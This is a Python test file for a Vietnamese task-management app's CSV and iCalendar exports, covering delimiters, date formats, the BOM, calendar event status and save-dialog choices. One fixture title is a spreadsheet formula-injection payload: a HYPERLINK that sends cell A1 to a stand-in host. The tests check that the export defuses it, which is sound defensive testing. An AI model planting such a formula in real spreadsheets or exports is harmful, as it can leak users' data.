"""Exports that fit their readers: CSV as Excel on a Vietnamese Windows opens it (";" and
dd/mm/yyyy, with a BOM) or the standard form on request; an iCalendar of the open deadlines
unless all are asked for, each event saying its task's status. Files written for real (service,
CLI and the task page's save dialog) and read back."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from PySide6.QtWidgets import QFileDialog

from giaoban.cli import main
from giaoban.core.csvfile import CsvForm, csv_file_filters
from giaoban.core.enums import TaskStatus
from giaoban.core.labels import label_of
from giaoban.core.services import aspirations, directory, tasks
from giaoban.core.services.aspiration_export import export_aspirations
from giaoban.core.services.task_export import export_tasks, ics_escape

D = dt.date
HOSTILE = '=HYPERLINK("http://x?a="&A1;"Bấm")'


@pytest.fixture
def mixed(ctx):
    """Four tasks: open with a deadline, open without, done, cancelled (every one with a due
    date but the second)."""
    units = [o.id for o in directory.list_organizations(ctx) if o.active]
    open_ = tasks.create_task(ctx, title="Rà soát; kiến nghị đất đai, xã ven biển",
                              lead_unit_id=units[0], assigned_on=D(2026, 10, 1),
                              due_on=D(2026, 12, 5), supporting_unit_ids=[units[1]])
    tasks.create_task(ctx, title="Không có hạn", lead_unit_id=units[1], assigned_on=D(2026, 10, 2))
    done = tasks.create_task(ctx, title=HOSTILE, lead_unit_id=units[2],
                             assigned_on=D(2026, 10, 3), due_on=D(2026, 11, 20))
    tasks.complete_task(ctx, done.id, completed_on=D(2026, 11, 18), result="Đã xong")
    cancelled = tasks.create_task(ctx, title="Tổ chức đối thoại", lead_unit_id=units[2],
                                  assigned_on=D(2026, 10, 4), due_on=D(2026, 11, 25))
    tasks.cancel_task(ctx, cancelled.id, reason="Không còn cần thiết")
    return open_.id, done.id, cancelled.id


def _rows(raw: bytes, delimiter: str) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=delimiter))


def test_task_csv_default_is_what_vietnamese_excel_opens_in_columns(ctx, mixed, tmp_path):
    out = tmp_path / "nv.csv"
    assert export_tasks(ctx, out) == 4
    raw = out.read_bytes()
    first_line = raw.decode("utf-8-sig").split("\r\n")[0]
    assert first_line.startswith('"Số";"Tên nhiệm vụ";') and '","' not in first_line
    rows = _rows(raw, ";")
    assert {len(row) for row in rows} == {len(rows[0])}  # every line splits into the columns
    by_title = {row[1]: row for row in rows[1:]}
    assert by_title["Rà soát; kiến nghị đất đai, xã ven biển"][5:7] == ["01/10/2026", "05/12/2026"]
    assert by_title["'" + HOSTILE][8] == "18/11/2026"  # completed on, dd/mm/yyyy
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_standard_csv_from_the_command_line_is_comma_and_iso(ctx, mixed, tmp_path):
    db = str(ctx.db.path)
    out = tmp_path / "nv.csv"
    assert main(["export", "tasks", "--out", str(out), "--csv", "standard", "--db", db]) == 0
    rows = _rows(out.read_bytes(), ",")
    assert {len(row) for row in rows} == {11}
    assert ["2026-10-01", "2026-12-05"] in [row[5:7] for row in rows]
    assert "'" + HOSTILE in [row[1] for row in rows]
    tktn = tmp_path / "tktn.csv"
    assert main(["export", "aspirations", "--out", str(tktn), "--csv", "excel", "--db", db]) == 0
    with pytest.raises(SystemExit) as refused:  # an unknown form: one line, nothing written
        main(["export", "tasks", "--out", str(tmp_path / "x.csv"), "--csv", "iso", "--db", db])
    assert refused.value.code != 0 and not (tmp_path / "x.csv").exists()


def test_aspiration_csv_in_both_forms(ctx, tmp_path):
    body = directory.list_organizations(ctx)[0].id
    aspirations.create_aspiration(ctx, organization_id=body, raised_on=D(2026, 9, 7),
                                  content="Kiến nghị; sửa đường, cầu", kind="proposal",
                                  field="infrastructure")
    excel, standard = tmp_path / "a.csv", tmp_path / "b.csv"
    assert export_aspirations(ctx, excel) == 1
    assert export_aspirations(ctx, standard, csv_form=CsvForm.STANDARD) == 1
    excel_rows, standard_rows = _rows(excel.read_bytes(), ";"), _rows(standard.read_bytes(), ",")
    assert excel_rows[1][1] == "07/09/2026" and standard_rows[1][1] == "2026-09-07"
    assert excel_rows[1][7] == standard_rows[1][7] == "Kiến nghị; sửa đường, cầu"
    assert excel_rows[0] == standard_rows[0]


def _events(path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8").replace("\r\n ", "")
    events, current = [], None
    for line in text.split("\r\n"):
        if line == "BEGIN:VEVENT":
            current = {"alarm": ""}
        elif line == "END:VEVENT":
            events.append(current)
            current = None
        elif current is not None and line == "BEGIN:VALARM":
            current["alarm"] = "yes"
        elif current is not None and ":" in line and not line.startswith(("END:", "BEGIN:")):
            key, value = line.split(":", 1)
            current.setdefault(key, value)
    return events


def test_calendar_holds_open_deadlines_unless_all_are_asked_for(ctx, mixed, tmp_path):
    open_id, done_id, cancelled_id = mixed
    out = tmp_path / "nv.ics"
    assert export_tasks(ctx, out) == 1
    (only,) = _events(out)
    assert only["UID"] == f"task-{open_id}@giaoban" and only["STATUS"] == "CONFIRMED"
    assert only["alarm"] and only["SUMMARY"].startswith("Hạn: ")
    every = tmp_path / "all.ics"
    assert export_tasks(ctx, every, calendar_all=True) == 3
    events = {e["UID"]: e for e in _events(every)}
    done, cancelled = events[f"task-{done_id}@giaoban"], events[f"task-{cancelled_id}@giaoban"]
    assert done["SUMMARY"] == f"[{label_of(TaskStatus, 'done')}] " + ics_escape(HOSTILE)
    assert "STATUS" not in done
    assert "18/11/2026" in done["DESCRIPTION"]
    assert cancelled["SUMMARY"].startswith(f"[{label_of(TaskStatus, 'cancelled')}] Tổ chức")
    assert cancelled["STATUS"] == "CANCELLED"
    assert not done["alarm"] and not cancelled["alarm"]
    db = str(ctx.db.path)
    cli = tmp_path / "cli.ics"
    assert main(["export", "tasks", "--out", str(cli), "--all-tasks", "--db", db]) == 0
    assert len(_events(cli)) == 3


@pytest.mark.parametrize("choice,delimiter,date", [(0, ";", "05/12/2026"), (1, ",", "2026-12-05")])
def test_task_page_save_dialog_chooses_the_csv_form(window, ctx, mixed, qtbot, tmp_path,
                                                   monkeypatch, choice, delimiter, date):
    out = tmp_path / "nv.csv"
    offered: list[str] = []

    def save(_parent, _caption, _start, filters):
        offered.extend(filters.split(";;"))
        return str(out), list(csv_file_filters())[choice]

    monkeypatch.setattr(QFileDialog, "getSaveFileName", save)
    page = window.show_area("tasks")
    page.export()
    qtbot.waitUntil(lambda: page.long_task.done, timeout=10000)
    assert set(csv_file_filters()) <= set(offered)
    rows = _rows(out.read_bytes(), delimiter)
    assert date in [row[6] for row in rows]


def test_task_page_calendar_of_every_task(window, ctx, mixed, qtbot, tmp_path, monkeypatch):
    out = tmp_path / "nv.ics"
    chosen: list[str] = []

    def save(_parent, _caption, _start, filters):
        chosen.append(next(f for f in filters.split(";;") if "cả việc đã xong" in f))
        return str(out), chosen[0]

    monkeypatch.setattr(QFileDialog, "getSaveFileName", save)
    page = window.show_area("tasks")
    page.export()
    qtbot.waitUntil(lambda: page.long_task.done, timeout=10000)
    assert len(_events(out)) == 3
